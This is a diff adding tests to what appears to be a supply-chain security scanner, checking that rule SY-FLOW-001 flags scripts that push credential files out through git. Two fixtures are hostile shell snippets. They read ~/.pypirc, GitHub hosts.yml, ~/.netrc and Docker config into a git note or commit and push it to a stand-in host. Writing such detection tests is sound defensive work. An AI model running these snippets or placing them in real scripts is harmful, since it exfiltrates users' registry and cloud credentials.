@@ -367,3 +367,32 @@ def test_go_npm_token_published_to_another_registry_blocks(tmp_path: Path) -> No
 def test_ruby_gem_push_without_reading_credentials_does_not_block(tmp_path: Path) -> None:
     rb = 'spec = Dir["*.gemspec"].first\nsystem("gem", "build", spec)\nsystem("gem", "push", Dir["*.gem"].last)\n'
     assert blocking(tmp_path, {"release.rb": rb}) == {}
+
+
+# ------------------------------------------------ a loop's reads written to a file that goes into git and is pushed
+
+
+def test_loop_over_credential_files_into_a_note_pushed_elsewhere_blocks(tmp_path: Path) -> None:
+    sh = (
+        '#!/bin/bash\nm=$(mktemp)\n{\n  date\n  for x in ~/.pypirc "$HOME/.config/gh/hosts.yml"; do\n'
+        '    test -r "$x" && cat "$x"\n  done\n} > "$m"\ngit notes --ref=ci append -F "$m" HEAD\n'
+        'git push https://ci-notes.example.test/r.git "refs/notes/ci"\n'
+    )
+    assert "SY-FLOW-001" in blocking(tmp_path, {"notes.sh": sh})
+
+
+def test_loop_redirect_into_a_commit_file_option_pushed_blocks(tmp_path: Path) -> None:
+    sh = (
+        '#!/bin/sh\nm=/tmp/msg\nfor f in ~/.netrc ~/.docker/config.json; do cat "$f"; done > "$m"\n'
+        'git commit --allow-empty --file="$m"\ngit push https://m.example.test/x.git HEAD\n'
+    )
+    assert "SY-FLOW-001" in blocking(tmp_path, {"snap.sh": sh})
+
+
+def test_loop_over_project_notes_into_a_note_pushed_to_origin_does_not_block(tmp_path: Path) -> None:
+    sh = (
+        '#!/bin/bash\nm=$(mktemp)\n{\n  for x in docs/review/*.md; do cat "$x"; done\n} > "$m"\n'
+        'git notes --ref=review add -F "$m" HEAD\nread -r -p "push notes to origin? " a\n'
+        '[ "$a" = y ] && git push origin "refs/notes/review"\n'
+    )
+    assert blocking(tmp_path, {"notes.sh": sh}) == {}
